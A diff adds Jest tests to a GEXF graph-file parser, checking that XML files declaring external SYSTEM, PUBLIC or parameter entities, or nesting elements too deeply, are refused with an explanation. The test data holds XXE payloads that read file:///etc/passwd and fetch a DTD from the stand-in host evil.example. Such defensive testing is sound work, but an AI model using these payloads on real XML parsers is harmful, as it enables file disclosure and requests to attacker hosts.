@@ -166,6 +166,21 @@ describe('parseGexf', () => {
       expect(draft.dataset.entities[0]!.name).toBe('&lol2;');
     });
 
+    it.each([
+      ['a SYSTEM entity', '<!DOCTYPE gexf [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n', 'x.gexf, line 3: declares an entity read from another file or address (SYSTEM or PUBLIC) in its DOCTYPE; this app reads nothing but the file itself, so the file is not read'],
+      ['a PUBLIC entity', '<!DOCTYPE gexf [\n<!ENTITY x "y">\n<!ENTITY remote PUBLIC "-//EVIL//X" "http://evil.example/x">\n]>\n', 'x.gexf, line 4: declares an entity read from another file or address (SYSTEM or PUBLIC) in its DOCTYPE; this app reads nothing but the file itself, so the file is not read'],
+      ['a parameter entity', '<!DOCTYPE gexf [\n<!ENTITY % p SYSTEM "http://evil.example/dtd">\n%p;\n]>\n', 'x.gexf, line 3: declares a parameter entity (<!ENTITY % …>) in its DOCTYPE, which this app does not expand; the file is not read'],
+    ])('%s in the DOCTYPE refuses the file, saying why and where', (_, doctype, expected) => {
+      const draft = parseGexf(gexf('<node id="a" label="&xxe;"/>', '', doctype), 'x.gexf');
+      expect(problems(draft)).toBe(expected);
+      expect(draft.dataset.entities).toEqual([]);
+    });
+
+    it('nodes nested past the depth the reader allows are refused in words', () => {
+      const nested = `<node id="n0">${'<nodes><node id="n">'.repeat(60)}${'</node></nodes>'.repeat(60)}</node>`;
+      expect(problems(parseGexf(gexf(nested), 'x.gexf'))).toBe('x.gexf: nests elements more than 100 levels deep; this app reads no deeper, so the file is not read');
+    });
+
     it('a Supply Lines record that is not valid JSON: the readable attributes still import', () => {
       const text = gexf('<node id="a" label="A"><attvalues><attvalue for="kind" value="person"/><attvalue for="supply_lines" value="{oops"/></attvalues></node>').replace(
         '<nodes>',
